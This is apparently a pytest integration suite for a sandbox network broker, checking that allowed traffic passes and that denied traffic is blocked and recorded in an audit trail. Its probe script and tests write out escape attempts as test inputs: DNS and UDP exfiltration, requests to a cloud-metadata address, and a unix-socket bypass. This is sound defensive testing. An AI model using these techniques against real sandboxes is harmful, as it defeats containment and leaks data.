"""The network broker for real: `stockade run` under bubblewrap, clients inside the sandbox
(curl, Python, pip, npm, git), servers in a network namespace this module creates (HTTP,
HTTPS with a test CA, plain TCP) and on the host's loopback, names mapped by the broker's
table resolver.  Every refusal is checked in the run's audit trail.

Needs root (``ip netns``) and bubblewrap; skipped otherwise.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from stockade.runtime.broker import BrokerHooks, TableResolver
from stockade.runtime.session import RunOutcome, run
from tests.runtime.servers import LoopbackServer

from .broker_site import Site, build_site
from .conftest import box_root
from .netns_hosts import NetnsHost, netns_available

pytestmark = pytest.mark.skipif(not netns_available() or shutil.which("bwrap") is None,
                                reason="needs root (ip netns) and bubblewrap")

HERE = Path(__file__).resolve().parent

#: Inside the sandbox: `python3 x.py ARGV...` runs ARGV (so that the analyzer, which cannot
#: see into the script, leaves every destination to the broker) and prints its status.
RUNNER = """\
import subprocess, sys
sys.exit(subprocess.run(sys.argv[1:]).returncode)
"""

#: Inside the sandbox: raw socket probes (`python3 probe.py MODE ARG...`).
PROBE = r"""
import os, socket, sys, time, urllib.request
mode, args = sys.argv[1], sys.argv[2:]

def socks(host, port, payload):
    proxy = os.environ["ALL_PROXY"].rsplit(":", 1)
    s = socket.create_connection(("127.0.0.1", int(proxy[1])), 5)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host.encode() + int(port).to_bytes(2, "big"))
    reply = s.recv(10)
    if reply[1] != 0:
        return f"socks refused {reply[1]}"
    s.sendall(payload)
    return s.recv(100).decode()

try:
    if mode == "socks":
        print(socks(args[0], args[1], b"ping\n").strip())
    elif mode == "urllib":
        import ssl
        context = ssl.create_default_context(cafile=args[1])
        print(urllib.request.urlopen(args[0], context=context, timeout=10).read().decode().strip())
    elif mode == "direct":
        socket.create_connection((args[0], int(args[1])), 5)
        print("connected")
    elif mode == "dns":
        print(socket.getaddrinfo(args[0], 443))
    elif mode == "udp":
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"\x12\x34exfil", (args[0], 53))
        print("sent")
    elif mode == "unix":
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.connect(args[0])
        print("connected")
    elif mode == "twice":
        url, marker, go = args
        print(urllib.request.urlopen(url, timeout=10).read().decode().strip(), flush=True)
        open(marker, "w").close()
        while not os.path.exists(go):
            time.sleep(0.05)
        print(urllib.request.urlopen(url, timeout=10).read().decode().strip())
except Exception as exc:
    print(f"failed: {type(exc).__name__}: {exc}")
    sys.exit(3)
"""


@dataclass
class Net:
    """The module's world: the namespace host, the site, a workspace, the policy, the resolver."""

    root: Path
    host: NetnsHost
    site: Site
    workspace: Path
    home: Path
    policy: Path
    audit: Path
    resolver: TableResolver
    loopback_port: int
    closed_port: int


class _LoopbackServer(LoopbackServer):
    """An HTTP-ish server on the host's 127.0.0.1 (a host service: a database, a dev server)."""

    def __init__(self) -> None:
        super().__init__(threaded=False)

    def serve(self, conn: socket.socket) -> None:
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 13\r\n\r\nhost service\n")


def _policy(path: Path, loopback_port: int) -> None:
    path.write_text(f"""\
policy "broker-test"

filesystem {{
    read  /
    write $WORKSPACE
}}

network {{
    default deny
    allow   localhost
    allow   pypi.test files.test:443 registry.test:80 git.test:80 echo.test:7 github.com
    allow   *.example.test
    allow   host-loopback:{loopback_port}
}}

environment {{
    keep PATH HOME LANG
}}

commands {{
    unknown-effects allow
}}
""")


@pytest.fixture(scope="module")
def net() -> Iterator[Net]:
    root = box_root()  # outside /tmp
    mp = pytest.MonkeyPatch()
    host = None
    loopback = _LoopbackServer()
    closed = socket.create_server(("127.0.0.1", 0))  # a host port the policy does not grant
    try:
        for name in ("XDG_CACHE_HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME"):
            (root / name).mkdir()
            mp.setenv(name, str(root / name))
        host = NetnsHost()
        site = build_site(root / "site", [host.address])
        host.serve([sys.executable, str(HERE / "broker_servers.py"), host.address, str(site.root), str(site.cert),
                    str(site.key)], 443)
        workspace = root / "ws"
        home = workspace / "home"
        home.mkdir(parents=True)
        (workspace / "x.py").write_text(RUNNER)
        (workspace / "probe.py").write_text(PROBE)
        shutil.copy(site.ca, workspace / "ca.pem")
        policy = root / "broker.policy"
        _policy(policy, loopback.port)
        names = {name: [host.address] for name in ("pypi.test", "files.test", "registry.test", "git.test",
                                                   "echo.test", "evil.test", "example.test", "api.example.test",
                                                   "github.com.evil.test", "github.com")}
        names["lan.example.test"] = ["10.99.0.1"]
        names["meta.example.test"] = ["169.254.169.254"]
        yield Net(root, host, site, workspace, home, policy, root / "audit.jsonl", TableResolver(names), loopback.port,
                  closed.getsockname()[1])
    finally:
        loopback.server.shutdown(socket.SHUT_RDWR)  # wakes its accept (a bare close would leave it listening)
        loopback.server.close()
        closed.close()
        if host is not None:
            host.close()
        mp.undo()
        shutil.rmtree(root, ignore_errors=True)


def _run(net: Net, *argv: str, hooks: BrokerHooks | None = None,
         policy: Path | None = None) -> tuple[RunOutcome, str, str]:
    out, err = bytearray(), bytearray()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(net.home), "LANG": "C.UTF-8"}
    outcome = run(list(argv), policy=str(policy or net.policy), workspace=str(net.workspace), audit=str(net.audit),
                  approve=True, stdout=out.extend, stderr=err.extend, environ=env,
                  broker=hooks or BrokerHooks(resolver=net.resolver))
    assert outcome.ran, outcome.reasons
    return outcome, out.decode(), err.decode()


def _net_records(net: Net, command_part: str) -> list[dict]:
    records = [json.loads(line) for line in net.audit.read_text().splitlines() if line.strip()]
    return [r for r in records if r.get("event") == "net" and command_part in r.get("command", "")]


def _curl(net: Net, *args: str) -> tuple[RunOutcome, str, str]:
    return _run(net, "python3", "x.py", "curl", "-fsS", "--max-time", "20", "--cacert", "ca.pem", *args)


def test_allowed_http_https_and_tcp(net: Net) -> None:
    outcome, out, err = _curl(net, "http://pypi.test/hello.txt?run", "https://pypi.test/hello.txt?run",
                              "https://api.example.test/hello.txt?run")
    assert outcome.exit_status == 0, err
    assert out == "hello through the broker\n" * 3
    assert outcome.blocked == ()
    records = _net_records(net, "https://api.example.test/hello.txt?run")
    assert {(r["protocol"], r["host"], r["port"]) for r in records} == {
        ("http", "pypi.test", 80), ("connect", "pypi.test", 443), ("connect", "api.example.test", 443)}
    assert all(r["decision"] == "allow" and r["address"] == net.host.address and r["bytes_received"] > 0
               and r["bytes_sent"] > 0 for r in records)
    outcome, out, err = _run(net, "python3", "probe.py", "urllib", "https://files.test/hello.txt", "ca.pem")
    assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
    outcome, out, err = _run(net, "python3", "probe.py", "socks", "echo.test", "7")
    assert (outcome.exit_status, out) == (0, "echo:ping\n"), err
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "20",
                             "--socks5-hostname", "127.0.0.1:1080",
                             "--cacert", "ca.pem", "https://pypi.test/hello.txt")
    assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err


@pytest.mark.parametrize("url, host, port, because", [
    ("https://evil.test/hello.txt", "evil.test", 443, "no rule allows it; default deny at"),
    ("https://github.com.evil.test/hello.txt", "github.com.evil.test", 443, "no rule allows it"),
    ("https://example.test/hello.txt", "example.test", 443, "no rule allows it"),       # apex, not *.example.test
    ("http://files.test/hello.txt", "files.test", 80, "no rule allows it"),             # wrong port
    ("https://lan.example.test/hello.txt", "lan.example.test", 443, "a private address"),
    ("http://meta.example.test/latest/meta-data/", "meta.example.test", 80, "a metadata address"),
    ("https://IP/hello.txt", "IP", 443, "an address is judged as an address"),
])
def test_refused_with_their_record(net: Net, url: str, host: str, port: int, because: str) -> None:
    url = url.replace("IP", net.host.address) + "?run"
    host = host.replace("IP", net.host.address)
    outcome, out, _ = _curl(net, url)
    assert outcome.exit_status != 0 and "hello" not in out
    (line,) = outcome.blocked
    assert line.startswith(f"blocked: {host}:{port} (") and because in line, line
    (record,) = _net_records(net, url)
    assert record["decision"] == "deny" and (record["host"], record["port"]) == (host, port)
    assert because in f"{record['reason']}; {record['rule']} at {record['rule_at']}"
    assert record["rule_at"].startswith(str(net.policy)) and url in record["command"]
    if "private" in because or "metadata" in because:
        assert record["address"] in ("10.99.0.1", "169.254.169.254")


def test_clients_ignoring_the_proxy_find_no_route_without_capture(net: Net) -> None:
    """Where the namespace refuses the stub resolver and capture (here: turned off), a client
    that ignores the proxy variables finds no route and no DNS: fail closed, never open."""
    def run_(*argv: str) -> tuple[RunOutcome, str, str]:
        return _run(net, *argv, hooks=BrokerHooks(resolver=net.resolver, capture=False))

    seen: list = []
    _run(net, "true", hooks=BrokerHooks(resolver=net.resolver, on_start=seen.append, capture=False))
    assert seen and not seen[0].capture
    outcome, out, err = run_("python3", "x.py", "curl", "-sS", "--max-time", "10", "--noproxy", "*",
                         f"http://{net.host.address}/hello.txt")
    assert outcome.exit_status != 0 and "hello" not in out
    assert "unreachable" in err.lower() or "couldn't connect" in err.lower(), err
    outcome, out, _ = run_("python3", "probe.py", "direct", net.host.address, "80")
    assert outcome.exit_status == 3 and "unreachable" in out.lower(), out
    outcome, out, _ = run_("python3", "probe.py", "dns", "secret-data.exfil.test")  # no DNS inside
    assert outcome.exit_status == 3 and "gaierror" in out, out
    outcome, out, _ = run_("python3", "probe.py", "udp", "8.8.8.8")
    assert outcome.exit_status == 3 and "unreachable" in out.lower(), out
    assert _net_records(net, "exfil.test") == [] and _net_records(net, "8.8.8.8") == []  # nothing left


def test_unix_socket_bypass_is_refused(net: Net) -> None:
    # a host unix socket the sandbox can see (the workspace is writable, the socket is there)
    path = net.workspace / "host.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(1)
    try:
        outcome, out, _ = _run(net, "python3", "probe.py", "unix", str(path))
    finally:
        server.close()
        path.unlink()
    assert outcome.exit_status == 3 and "PermissionError" in out, out


def test_host_loopback_is_granted_per_port(net: Net) -> None:
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "10",
                             f"http://127.0.0.1:{net.loopback_port}/?run")
    assert (outcome.exit_status, out) == (0, "host service\n"), err
    (record,) = _net_records(net, f"127.0.0.1:{net.loopback_port}/?run")
    assert record["protocol"] == "host-loopback" and record["decision"] == "allow"
    assert record["rule"] == f"allow host-loopback:{net.loopback_port}"
    # a port the policy does not grant: nothing listens inside (the sandbox's own loopback) ...
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "10",
                             f"http://127.0.0.1:{net.closed_port}/")
    assert outcome.exit_status != 0 and "connect" in err.lower(), err
    # ... and asking the broker for it is refused and recorded
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "10", "--proxy",
                             "http://127.0.0.1:3128", "--noproxy", "", f"http://localhost:{net.closed_port}/")
    assert outcome.exit_status != 0 or "blocked" in out
    (line,) = outcome.blocked
    assert f"localhost:{net.closed_port}" in line or f":{net.closed_port}" in line, line


def test_broker_killed_mid_run(net: Net) -> None:
    marker, go = net.workspace / "first-done", net.workspace / "go"
    for path in (marker, go):
        path.unlink(missing_ok=True)
    stopped = threading.Event()

    def on_start(broker: object) -> None:
        def kill() -> None:
            deadline = time.monotonic() + 60
            while not marker.exists() and time.monotonic() < deadline:
                time.sleep(0.05)
            broker.stop()  # type: ignore[attr-defined]
            stopped.set()
            go.touch()
        threading.Thread(target=kill, daemon=True).start()

    outcome, out, _ = _run(net, "python3", "probe.py", "twice", "http://pypi.test/hello.txt", str(marker), str(go),
                           hooks=BrokerHooks(resolver=net.resolver, on_start=on_start))
    assert stopped.is_set()
    lines = out.splitlines()
    assert lines[0] == "hello through the broker"
    assert outcome.exit_status == 3 and lines[1].startswith("failed:") and (
        "refused" in lines[1].lower() or "function not implemented" in lines[1].lower()), out  # (ENOSYS: the handoff)


def test_pip_install_from_a_local_index(net: Net) -> None:
    target = net.workspace / "site-pip"
    outcome, out, err = _run(net, "python3", "x.py", sys.executable, "-m", "pip", "install", "--no-cache-dir",
                             "--disable-pip-version-check", "--no-deps", "--index-url", "https://pypi.test/simple",
                             "--cert", "ca.pem", "--target", str(target), "tinypkg")
    assert outcome.exit_status == 0, out + err
    assert "installed through the broker" in (target / "tinypkg" / "__init__.py").read_text()
    outcome, out, err = _run(net, "python3", "x.py", sys.executable, "-m", "pip", "install", "--no-cache-dir",
                             "--disable-pip-version-check", "--retries", "0", "--timeout", "5", "--index-url",
                             "https://evil.test/simple", "--cert", "ca.pem", "--target", str(target), "tinypkg")
    assert outcome.exit_status != 0
    assert outcome.blocked and outcome.blocked[0].startswith("blocked: evil.test:443")


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_install_from_a_local_registry(net: Net) -> None:
    project = net.workspace / "npm-project"
    project.mkdir(exist_ok=True)
    (project / "package.json").write_text('{"name": "p", "version": "1.0.0"}')
    outcome, out, err = _run(net, "python3", "x.py", "npm", "install", "--registry", "http://registry.test/",
                             "--cache", str(net.workspace / ".npm-cache"), "--no-audit", "--no-fund",
                             "--prefix", str(project), "tinynpm")
    assert outcome.exit_status == 0, out + err
    assert "installed through the broker" in (project / "node_modules" / "tinynpm" / "index.js").read_text()


def test_git_clone_over_http(net: Net) -> None:
    clone = net.workspace / "clone"
    outcome, out, err = _run(net, "python3", "x.py", "git", "-c", "protocol.version=0", "clone", "-q",
                             "http://git.test/repo.git", str(clone))
    assert outcome.exit_status == 0, out + err
    assert (clone / "README").read_text() == "cloned through the broker\n"
    outcome, out, err = _run(net, "python3", "x.py", "git", "clone", "-q", "http://evil.test/repo.git",
                             str(net.workspace / "clone2"))
    assert outcome.exit_status != 0 and outcome.blocked[0].startswith("blocked: evil.test:80")


def test_allow_everything_still_keeps_the_host_loopback_out(net: Net) -> None:
    """`default allow` with no denies goes through the broker too: every public destination
    passes, the host's loopback and private ranges do not."""
    policy = net.root / "open.policy"
    policy.write_text('policy "open"\nfilesystem {\n    read /\n    write $WORKSPACE\n}\n'
                      'network {\n    default allow\n}\ncommands {\n    unknown-effects allow\n}\n')
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-fsS", "--max-time", "20", "--cacert", "ca.pem",
                             "https://evil.test/hello.txt?open", policy=policy)
    assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "10",
                             f"http://127.0.0.1:{net.loopback_port}/?open", policy=policy)
    assert outcome.exit_status != 0 and "host service" not in out  # the sandbox's own loopback: nothing there
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-fsS", "--max-time", "10", "--noproxy", "",
                             f"http://localhost:{net.loopback_port}/?open", "https://lan.example.test/?open",
                             policy=policy)
    assert outcome.exit_status != 0 and "host service" not in out
    assert [line.split(" (")[0] for line in outcome.blocked] == [
        f"blocked: localhost:{net.loopback_port}", "blocked: lan.example.test:443"], outcome.blocked
